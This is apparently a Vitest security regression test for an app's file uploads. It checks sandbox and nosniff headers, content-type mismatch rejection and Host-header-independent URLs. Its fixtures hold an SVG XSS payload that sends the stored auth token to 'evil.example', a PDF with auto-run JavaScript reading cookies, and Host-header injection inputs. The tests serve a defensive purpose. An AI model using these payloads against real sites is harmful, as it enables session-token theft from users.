// Uploads can never become the app's own script: the SVG attack of the
// security issue, bytes that are not what their name declares, and URLs built
// from the request's Host header.
import { request } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApp, type TestApp } from '../testing/testApp.ts';

let app: TestApp;
let ownerToken = '';
let learnerToken = '';

const at = (url: string) => new URL(url, app.url).toString();
const SVG_ATTACK = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>fetch("https://evil.example/?t="+localStorage.getItem("token"))</script></svg>';
const PNG = Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63f8ffff3f0005fe02fea7d6a0ce0000000049454e44ae426082', 'hex');
const PDF = Buffer.from('%PDF-1.4\n%%EOF\n');
/** Opens with a script, as in the issue: an OpenAction of type JavaScript. */
const PDF_WITH_SCRIPT = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(document.cookie)) >> >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
const HTML = Buffer.from('<!doctype html><html><body><script>alert(document.domain)</script></body></html>');

beforeAll(async () => {
  app = await startTestApp();
  ownerToken = await app.adminToken('demo-owner', 'account');
  // a self-registered learner, as in the issue
  const email = `self-${Date.now()}@example.com`;
  const registered = await app.rest('user/setUserInfo', { email, name: 'Mallory', privacyPolicyAccepted: true, termsAccepted: true });
  expect(registered.status).toBe(200);
  learnerToken = (await app.rest('user/login', { email })).body.data.token;
});

afterAll(async () => {
  await app?.stop();
});

async function requestUpload(token: string, fileName: string) {
  const response = await fetch(`${app.url}/upload`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
    body: JSON.stringify({ fileName }),
  });
  expect(response.status).toBe(200);
  return (await response.json()) as { signedUrl: string; url: string };
}

const put = (signedUrl: string, body: Buffer | string, contentType: string) =>
  fetch(at(signedUrl), { method: 'PUT', headers: { 'content-type': contentType }, body: typeof body === 'string' ? body : new Uint8Array(body) });

describe('the SVG attack: an uploaded SVG with a script never runs as a page of the app', () => {
  it.each([
    ['a self-registered learner', () => learnerToken],
    ['an account owner (a public asset)', () => ownerToken],
  ])('uploaded by %s, avatar.svg is served as a sandboxed, nosniff download, never inline', async (_who, token) => {
    const { signedUrl, url } = await requestUpload(token(), 'avatar.svg');
    expect((await put(signedUrl, SVG_ATTACK, 'image/svg+xml')).status).toBe(200);

    const response = await fetch(at(url), { headers: { authorization: `Bearer ${token()}` } });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="avatar.svg"');
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    expect(response.headers.get('content-security-policy')).toMatch(/^sandbox; default-src 'none'/);
    expect(response.headers.get('content-security-policy')).not.toMatch(/script-src/);
  });

  it('photo.png, which cannot carry script, is shown inline, still sandboxed and nosniff', async () => {
    const { signedUrl, url } = await requestUpload(ownerToken, 'photo.png');
    expect((await put(signedUrl, PNG, 'image/png')).status).toBe(200);
    const response = await fetch(at(url));
    expect(response.headers.get('content-disposition')).toBe('inline; filename="photo.png"');
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    expect(response.headers.get('content-security-policy')).toMatch(/^sandbox;/);
  });

  it('lesson.pdf with embedded JavaScript is a sandboxed, nosniff download, never a page of the app', async () => {
    const { signedUrl, url } = await requestUpload(ownerToken, 'lesson.pdf');
    expect((await put(signedUrl, PDF_WITH_SCRIPT, 'application/pdf')).status).toBe(200);
    const response = await fetch(at(url));
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/pdf');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="lesson.pdf"');
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    expect(response.headers.get('content-security-policy')).toMatch(/^sandbox; default-src 'none'/);
    expect(response.headers.get('content-security-policy')).not.toMatch(/script-src/);
  });

  it("a PDF's byte ranges (what the app's pdf.js viewer asks for) carry the same sandbox", async () => {
    const { signedUrl, url } = await requestUpload(ownerToken, 'guide.pdf');
    expect((await put(signedUrl, PDF_WITH_SCRIPT, 'application/pdf')).status).toBe(200);
    const response = await fetch(at(url), { headers: { range: 'bytes=0-7' } });
    expect(response.status).toBe(206);
    expect(Buffer.from(await response.arrayBuffer()).toString()).toBe('%PDF-1.4');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="guide.pdf"');
    expect(response.headers.get('content-security-policy')).toMatch(/^sandbox; default-src 'none'/);
  });
});

describe("an upload's bytes must be what its name declares", () => {
  it.each([
    ['HTML bytes declared .png', 'avatar.png', HTML, 'image/png'],
    ['PNG bytes declared .pdf', 'lesson.pdf', PNG, 'application/pdf'],
    ['HTML bytes declared .svg', 'drawing.svg', HTML, 'image/svg+xml'],
    ['PDF bytes declared .svg', 'drawing.svg', PDF, 'image/svg+xml'],
    ['PNG bytes declared .txt', 'notes.txt', PNG, 'text/plain'],
    ['nothing declared .jpg', 'empty.jpg', Buffer.alloc(0), 'image/jpeg'],
  ])('%s is 415 fileContentMismatch, and nothing is kept', async (_case, name, bytes, type) => {
    const { signedUrl, url } = await requestUpload(learnerToken, name);
    const response = await put(signedUrl, bytes, type);
    expect({ status: response.status, body: await response.json() }).toEqual({ status: 415, body: { data: { error: 'fileContentMismatch' } } });
    expect((await fetch(at(url))).status).toBe(404);
  });

  it.each([
    ['a PNG named .png', 'photo.png', PNG, 'image/png'],
    ['an SVG with an XML declaration named .svg', 'logo.svg', '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>', 'image/svg+xml'],
    ['plain text named .txt', 'notes.txt', 'My notes\n', 'text/plain'],
  ])('%s is stored', async (_case, name, bytes, type) => {
    const { signedUrl } = await requestUpload(learnerToken, name);
    expect((await put(signedUrl, bytes, type)).status).toBe(200);
  });
});

/** POST /upload with a Host header fetch may not set. */
function uploadWithHost(host: string, appUrl: string): Promise<{ status: number; text: string }> {
  return new Promise((resolve, reject) => {
    const body = JSON.stringify({ fileName: 'lesson.pdf' });
    const sent = request(
      `${appUrl}/upload`,
      { method: 'POST', headers: { host, 'content-type': 'application/json', authorization: `Bearer ${ownerToken}`, 'content-length': Buffer.byteLength(body) } },
      (response) => {
        let text = '';
        response.setEncoding('utf8');
        response.on('data', (chunk: string) => (text += chunk));
        response.on('end', () => resolve({ status: response.statusCode ?? 0, text }));
      },
    );
    sent.on('error', reject);
    sent.end(body);
  });
}

describe("file URLs never come from the request's Host header", () => {
  it('with PUBLIC_URL unset, Host: evil.example gets URLs relative to the app', async () => {
    const { status, text } = await uploadWithHost('evil.example', app.url);
    expect(status).toBe(200);
    expect(text).not.toContain('evil.example');
    const { signedUrl, url } = JSON.parse(text);
    expect(url).toMatch(/^\/files\/dev\//);
    expect(signedUrl).toMatch(/^\/files\/dev\/.*\?expires=\d+&signature=/);
  });

  it('with PUBLIC_URL set, the URLs are on it whatever the Host says', async () => {
    const configured = await startTestApp({ publicUrl: 'https://learn.example.org/' });
    try {
      ownerToken = await configured.adminToken('demo-owner', 'account');
      const { text } = await uploadWithHost('evil.example', configured.url);
      expect(text).not.toContain('evil.example');
      expect(JSON.parse(text).url).toMatch(/^https:\/\/learn\.example\.org\/files\/dev\//);
    } finally {
      ownerToken = await app.adminToken('demo-owner', 'account');
      await configured.stop();
    }
  });
});
